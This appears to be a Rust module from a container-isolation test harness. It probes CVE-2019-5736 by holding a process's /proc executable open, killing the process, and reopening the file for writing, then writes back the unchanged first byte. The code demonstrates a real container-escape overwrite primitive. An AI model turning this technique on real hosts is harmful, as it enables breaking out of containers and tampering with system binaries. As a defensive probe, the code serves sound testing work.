//! The executable of a process that came from outside, overwritten by way of `/proc` (CVE-2019-5736).

use std::fs::File;
use std::io::{Read, Write};
use std::os::fd::AsRawFd;
use std::time::{Duration, Instant};

use nix::sys::signal::{Signal, kill};
use nix::unistd::Pid;

use crate::outcome::{Outcome, argument, errno};

/// Holds the executable open for reading, ends the process, and opens it again for writing;
/// what it writes is the first byte as it is.
pub(crate) fn overwrite(arguments: &[String]) -> Outcome {
    let pid: i32 = match argument(arguments, 0) {
        Ok(pid) => pid,
        Err(outcome) => return outcome,
    };
    let path = format!("/proc/{pid}/exe");
    let executable = match File::open(&path) {
        Ok(file) => file,
        Err(error) => return Outcome::Refused(format!("{path}: {error}")),
    };
    // While it runs the kernel says ETXTBSY; that protects only as long as somebody runs it.
    let _lives_on = kill(Pid::from_raw(pid), Signal::SIGKILL);
    let again = format!("/proc/self/fd/{}", executable.as_raw_fd());
    let end = Instant::now() + Duration::from_millis(500);
    loop {
        match File::options().write(true).open(&again) {
            Ok(file) => return rewrite(&executable, file),
            Err(error) if errno(&error) == nix::errno::Errno::ETXTBSY && Instant::now() < end => {}
            Err(error) => return Outcome::Refused(format!("open {path} for writing: {error}")),
        }
    }
}

fn rewrite(mut from: &File, mut to: File) -> Outcome {
    let mut first = [0; 1];
    let rewritten = from.read_exact(&mut first).and_then(|()| to.write_all(&first));
    Outcome::of("write to the executable", rewritten)
}
